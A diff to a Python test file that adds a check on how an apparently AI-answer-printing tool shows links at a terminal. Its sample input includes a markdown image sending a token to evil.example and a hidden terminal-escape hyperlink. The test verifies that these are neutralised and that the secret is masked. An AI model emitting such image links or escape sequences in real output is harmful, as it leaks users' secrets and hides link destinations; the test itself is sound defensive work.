@@ -98,6 +98,21 @@ def rendered(folder):
         check(part not in shown, f"{part!r} is in {shown!r}")
 
 
+def links_at_a_terminal(folder):
+    """No link hides where it goes, nothing but our own colours reaches the terminal, a secret in an address is masked."""
+    said = (f"![x](http://evil.example/?q={TOKEN}) <img src=http://evil.example/p>\n[docs](http://evil.example/d) and "
+            "\x1b]8;;http://hidden.example\x07click\x1b]8;;\x07 [ref][1]\n\n[1]: http://evil.example/r\n<http://evil.example/a>\n")
+    run = Run(folder, [{"text": said, "piece": 3}], terminal=True)
+    check(run.end() == 0, run.err)
+    shown = run.out.decode()
+    for part in ("![x](http://evil.example/?q=[redacted:databricks-token])", "[docs](http://evil.example/d)",
+                 "\\x1b]8;;http://hidden.example\\x07click", "http://evil.example/r", "<http://evil.example/a>"):
+        check(part in shown.replace("\r\n", "\n"), f"{part!r} is not in {shown!r}")
+    for colour in ("\x1b[0m", "\x1b[1m", "\x1b[2m", "\x1b[36m"):
+        shown = shown.replace(colour, "")
+    check("\x1b" not in shown and "\x07" not in shown, f"it drives the terminal: {shown!r}")
+
+
 def as_written_in_a_pipe(folder):
     run = Run(folder, [{"text": ANSWER, "piece": 5}])
     check(run.end() == 0, run.err)
@@ -160,7 +175,8 @@ def main():
     global WORKSPACE
     cases = [("in a pipe, as it comes", lambda f: words_before_the_end(f, False)),
              ("at a terminal, as it comes", lambda f: words_before_the_end(f, True)),
-             ("rendered at a terminal", rendered), ("as written in a pipe", as_written_in_a_pipe),
+             ("rendered at a terminal", rendered),
+             ("links at a terminal", links_at_a_terminal), ("as written in a pipe", as_written_in_a_pipe),
              ("asked again", asked_again), ("two answers", two_answers), ("secrets in pieces", secrets_in_pieces),
              ("notes beside", notes_beside), ("one document", one_document)]
     failed = 0
